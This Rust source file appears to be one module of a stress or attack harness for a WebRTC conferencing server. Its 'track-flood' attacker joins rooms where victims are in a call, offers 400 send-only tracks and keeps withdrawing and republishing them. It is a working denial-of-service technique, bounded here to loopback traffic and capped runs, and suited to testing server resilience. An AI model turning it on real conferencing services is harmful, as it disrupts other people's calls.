//! `track-flood`: a participant in a victims' room that publishes hundreds of tracks at once and
//! then withdraws and republishes all of them with every re-offer.
//!
//! The server publishes a client's m-lines only once its DTLS is up, so this attacker completes
//! ICE and DTLS (str0m, from its own address) but never sends media.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use futures_util::stream::SplitSink;
use futures_util::{SinkExt, StreamExt};
use str0m::change::{SdpAnswer, SdpOffer, SdpPendingOffer};
use str0m::media::{Direction, MediaKind, Mid};
use str0m::net::{Protocol, Receive};
use str0m::{Candidate, Event, Input, Output, Rtc, RtcConfig};
use tokio::net::UdpSocket;
use tokio::sync::mpsc;
use tokio::time::sleep_until;
use tokio_tungstenite::tungstenite::Message;

use super::net::{count_read, join, tcp_source, AttackWs, Seen};
use super::tally::Tally;
use super::{Attack, Ctx};
use crate::bot::keep_loopback_candidates;

/// Joins per room, the first included.
const MAX_JOINS: usize = 3;
/// Wait after a refused join.
const RETRY: Duration = Duration::from_secs(1);
/// Rooms flooded at most.
const MAX_FLOOD_ROOMS: usize = 4;
/// `poll_output` calls after one input at most.
const MAX_DRAIN: usize = 4096;
/// A send that does not complete within this ends the session.
const SEND_TIMEOUT: Duration = Duration::from_secs(5);
/// SDP messages from the server waiting for the attacker.
const SDP_QUEUE: usize = 16;

/// An SDP message from the server.
enum Sdp {
    Offer(String),
    Answer(String),
}

/// Floods each victims' room (at most [`MAX_FLOOD_ROOMS`]).
pub async fn track_flood(ctx: &Arc<Ctx>, tally: &Arc<Tally>) {
    let rooms: Vec<String> = ctx.rooms.iter().take(MAX_FLOOD_ROOMS).cloned().collect();
    let mut tasks = Vec::new();
    for (i, room) in rooms.into_iter().enumerate() {
        let (c, t) = (ctx.clone(), tally.clone());
        tasks.push(tokio::spawn(
            async move { flood_room(&c, &t, i, &room).await },
        ));
    }
    for t in tasks {
        let _ = t.await;
    }
}

async fn flood_room(ctx: &Ctx, tally: &Arc<Tally>, i: usize, room: &str) {
    // The flood goes into a call: wait for the first victim of the room.
    while Instant::now() < ctx.end && !ctx.intel.victims().iter().any(|v| v.room == room) {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let source = tcp_source(ctx.server, Attack::TrackFlood.slot(), i, ctx.cfg.sources);
    for _ in 0..MAX_JOINS {
        if Instant::now() >= ctx.end {
            return;
        }
        match session(ctx, tally, source, i, room).await {
            Ok(()) => return,
            Err(why) => {
                tally.note(format!("session ended: {why}"));
                sleep_until((Instant::now() + RETRY).min(ctx.end).into()).await;
            }
        }
    }
}

/// Sends one text message; false when the socket is gone.
async fn send_text(tx: &mut SplitSink<AttackWs, Message>, text: String) -> bool {
    matches!(
        tokio::time::timeout(SEND_TIMEOUT, tx.send(Message::Text(text.into()))).await,
        Ok(Ok(()))
    )
}

/// Polls `rtc` until it asks for a timeout; sends its datagrams (loopback only). Returns the
/// timeout and whether it connected.
fn drain(rtc: &mut Rtc, socket: &UdpSocket, now: Instant) -> Result<(Instant, bool), String> {
    let mut connected = false;
    for _ in 0..MAX_DRAIN {
        match rtc.poll_output() {
            Ok(Output::Timeout(t)) => return Ok((t, connected)),
            Ok(Output::Transmit(t)) => {
                if t.destination.ip().is_loopback() {
                    let _ = socket.try_send_to(&t.contents, t.destination);
                }
            }
            Ok(Output::Event(Event::Connected)) => connected = true,
            Ok(Output::Event(_)) => {}
            Err(e) => return Err(format!("webrtc: {e}")),
        }
    }
    Ok((now + Duration::from_millis(5), connected))
}

/// A connection whose first offer sends on `tracks` m-lines (one audio in four, the rest VP8),
/// kept small: one codec per kind and no header extensions, so that 400 m-lines fit in a message.
#[allow(clippy::type_complexity)]
fn flood_rtc(
    local: SocketAddr,
    tracks: usize,
    now: Instant,
) -> Result<(Rtc, Vec<Mid>, String, SdpPendingOffer), String> {
    let mut rtc = RtcConfig::new()
        .set_rtp_mode(true)
        .clear_codecs()
        .clear_extension_map()
        .enable_opus(true, false)
        .enable_vp8(true)
        .build(now);
    let candidate = Candidate::host(local, "udp").map_err(|e| e.to_string())?;
    rtc.add_local_candidate(candidate);
    let mut api = rtc.sdp_api();
    let mids: Vec<Mid> = (0..tracks)
        .map(|k| {
            let kind = if k % 4 == 0 {
                MediaKind::Audio
            } else {
                MediaKind::Video
            };
            api.add_media(kind, Direction::SendOnly, None, None, None)
        })
        .collect();
    let (offer, pending) = api.apply().ok_or("no offer")?;
    Ok((rtc, mids, slim(&offer.to_sdp_string()), pending))
}

/// `sdp` without the lines a send-only m-line that never sends does not need (feedback types,
/// SSRCs): what is left of 400 m-lines fits in one message.
fn slim(sdp: &str) -> String {
    sdp.split_inclusive('\n')
        .filter(|l| !(l.starts_with("a=rtcp-fb:") || l.starts_with("a=ssrc")))
        .collect()
}

/// One joined session: offer the tracks, connect, then flip all of them with every re-offer.
async fn session(
    ctx: &Ctx,
    tally: &Arc<Tally>,
    source: Option<IpAddr>,
    i: usize,
    room: &str,
) -> Result<(), String> {
    let ip = source.unwrap_or(IpAddr::V4(Ipv4Addr::LOCALHOST));
    let socket = UdpSocket::bind(SocketAddr::new(ip, 0))
        .await
        .map_err(|e| format!("udp bind: {e}"))?;
    let local = socket.local_addr().map_err(|e| e.to_string())?;
    let (mut rtc, mids, offer, pending) = flood_rtc(local, ctx.cfg.flood_tracks, Instant::now())?;
    tally.note(format!(
        "an offer of {} send-only m-lines, {} bytes",
        mids.len(),
        offer.len()
    ));

    let ws = join(ctx, tally, source, room, &format!("tracks-{i}")).await?;
    let (mut tx, mut rx) = ws.split();
    let (sdp_tx, mut sdp_rx) = mpsc::channel(SDP_QUEUE);
    let reader_tally = tally.clone();
    let end = ctx.end;
    let mut reader = tokio::spawn(async move {
        // Each turn reads one frame; the end of the run bounds the loop.
        while Instant::now() < end {
            let Ok(r) = tokio::time::timeout_at(end.into(), rx.next()).await else {
                break;
            };
            let sdp = match &r {
                Some(Ok(Message::Text(t))) => serde_json::from_str::<serde_json::Value>(t)
                    .ok()
                    .and_then(|v| {
                        let sdp = v.get("sdp")?.as_str()?.to_string();
                        match v.get("type")?.as_str()? {
                            "offer" => Some(Sdp::Offer(sdp)),
                            "answer" => Some(Sdp::Answer(sdp)),
                            _ => None,
                        }
                    }),
                _ => None,
            };
            if let Seen::End(how) = count_read(&reader_tally, r) {
                return how;
            }
            if let Some(sdp) = sdp {
                if sdp_tx.send(sdp).await.is_err() {
                    break;
                }
            }
        }
        "end".to_string()
    });
    if !send_text(
        &mut tx,
        serde_json::json!({"type": "offer", "sdp": offer}).to_string(),
    )
    .await
    {
        reader.abort();
        return Err("offer not sent".into());
    }
    tally.sent("offers", 1);
    let mut pending: Option<SdpPendingOffer> = Some(pending);
    let mut connected = false;
    let mut sending = true;
    let (mut deadline, _) = drain(&mut rtc, &socket, Instant::now())?;
    let mut next_reoffer = Instant::now() + ctx.cfg.reoffer_interval;
    let mut buf = vec![0u8; 2048];
    // Each turn handles one input or deadline; the end of the run bounds the loop.
    let result = loop {
        let now = Instant::now();
        if now >= ctx.end {
            break Ok(());
        }
        let wake = deadline.min(next_reoffer).min(ctx.end);
        let mut outbox = None;
        tokio::select! {
            how = &mut reader => break Err(format!("closed: {}", how.unwrap_or_default())),
            r = socket.recv_from(&mut buf) => {
                if let Ok((n, from)) = r {
                    if let Ok(rcv) = Receive::new(Protocol::Udp, from, local, &buf[..n]) {
                        let _ = rtc.handle_input(Input::Receive(Instant::now(), rcv));
                    }
                }
            }
            m = sdp_rx.recv() => match m {
                Some(Sdp::Answer(sdp)) => {
                    if let (Some(p), Ok(a)) = (pending.take(), SdpAnswer::from_sdp_string(&keep_loopback_candidates(&sdp))) {
                        if let Err(e) = rtc.sdp_api().accept_answer(p, a) {
                            tally.note(format!("answer not accepted: {e}"));
                        }
                    }
                }
                Some(Sdp::Offer(sdp)) if pending.is_none() => {
                    // Answered so that the negotiation goes on and re-offers are not glare.
                    if let Ok(o) = SdpOffer::from_sdp_string(&keep_loopback_candidates(&sdp)) {
                        if let Ok(a) = rtc.sdp_api().accept_offer(o) {
                            outbox = Some(serde_json::json!({"type": "answer", "sdp": slim(&a.to_sdp_string())}).to_string());
                        }
                    }
                }
                Some(Sdp::Offer(_)) => {}
                None => break Err("reader gone".into()),
            },
            _ = sleep_until(wake.into()) => {}
        }
        if let Some(text) = outbox {
            if !send_text(&mut tx, text).await {
                break Err("answer not sent".into());
            }
            tally.sent("answers to server offers", 1);
        }
        let now = Instant::now();
        if now >= deadline {
            let _ = rtc.handle_input(Input::Timeout(now));
        }
        let (d, c) = drain(&mut rtc, &socket, now)?;
        deadline = d;
        if c && !connected {
            connected = true;
            tally.note("the flooding participant's ICE and DTLS came up".into());
        }
        if now >= next_reoffer {
            next_reoffer = now + ctx.cfg.reoffer_interval;
            if connected && pending.is_none() {
                sending = !sending;
                let dir = if sending {
                    Direction::SendOnly
                } else {
                    Direction::Inactive
                };
                let mut api = rtc.sdp_api();
                for mid in &mids {
                    api.set_direction(*mid, dir);
                }
                if let Some((o, p)) = api.apply() {
                    pending = Some(p);
                    let text =
                        serde_json::json!({"type": "offer", "sdp": slim(&o.to_sdp_string())});
                    if !send_text(&mut tx, text.to_string()).await {
                        break Err("re-offer not sent".into());
                    }
                    tally.sent(
                        if sending {
                            "re-offers publishing all"
                        } else {
                            "re-offers withdrawing all"
                        },
                        1,
                    );
                }
            }
        }
    };
    reader.abort();
    if result.is_ok() {
        let _ = tokio::time::timeout(Duration::from_millis(500), tx.close()).await;
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn four_hundred_tracks_fit_in_a_message() {
        let local = "127.0.0.1:9".parse().unwrap();
        let (_, mids, offer, _) = flood_rtc(local, 400, Instant::now()).unwrap();
        assert_eq!(mids.len(), 400);
        assert_eq!(offer.matches("a=sendonly").count(), 400);
        let msg = serde_json::json!({"type": "offer", "sdp": offer}).to_string();
        assert!(msg.len() < 262_144, "{} bytes", msg.len());
        assert!(!offer.contains("a=ssrc"));
    }
}
